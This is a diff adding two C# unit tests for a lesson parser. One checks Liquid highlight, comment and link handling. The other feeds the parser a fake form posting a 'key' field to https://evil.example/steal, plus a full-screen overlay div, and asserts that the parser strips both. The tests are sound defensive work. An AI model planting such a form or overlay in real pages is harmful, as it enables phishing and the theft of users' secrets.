@@ -142,6 +142,56 @@ public class LessonParserTests
     }
 
     [Fact]
+    public void Liquid_highlight_blocks_comments_and_trimmed_tags_are_understood()
+    {
+        const string text = """
+            ---
+            title: Liquid
+            post-headings: [After the code]
+            ---
+            {% highlight python %}
+            print("inside")
+            ```
+            still inside
+            {% endhighlight %}
+            {% comment %}
+            a note for the author only
+            {% endcomment %}
+            Visible {% comment %}hidden{% endcomment %}text, and [a link]({% link other.md -%}).
+            {% include assign-heading.html %}
+            Second page.
+            """;
+        var lesson = Parser.Parse("liquid", text, "liquid.md", t => t == "other.md" ? "/lessons/other" : null);
+
+        Assert.Equal(["Liquid", "After the code"], lesson.Pages.Select(p => p.Title));
+        var intro = lesson.Pages[0].Html;
+        Assert.Contains("still inside", intro);
+        Assert.Equal(1, intro.Split("<pre>").Length - 1); // one code block, closed by endhighlight
+        Assert.DoesNotContain("for the author", intro);
+        Assert.DoesNotContain("hidden", intro);
+        Assert.Contains("Visible text", intro);
+        Assert.Contains("""<a href="/lessons/other">a link</a>""", intro);
+    }
+
+    [Fact]
+    public void A_lesson_cannot_fake_a_form_or_overlay_the_page()
+    {
+        const string text = """
+            ---
+            title: Sneaky
+            ---
+            <form action="https://evil.example/steal"><input name="key"><button>Send key</button></form>
+
+            <div style="position:fixed;top:0;left:0;z-index:9999" id="live-panel">overlay</div>
+            """;
+        var html = Parser.Parse("sneaky", text, "sneaky.md", _ => null).Pages[0].Html;
+        var document = new AngleSharp.Html.Parser.HtmlParser().ParseDocument(html);
+
+        Assert.Empty(document.QuerySelectorAll("form, input, button:not(.code-copy)"));
+        Assert.DoesNotContain(document.All, e => e.HasAttribute("style") || e.HasAttribute("id"));
+    }
+
+    [Fact]
     public void A_plain_markdown_file_splits_at_its_level_two_headings()
     {
         const string text = """
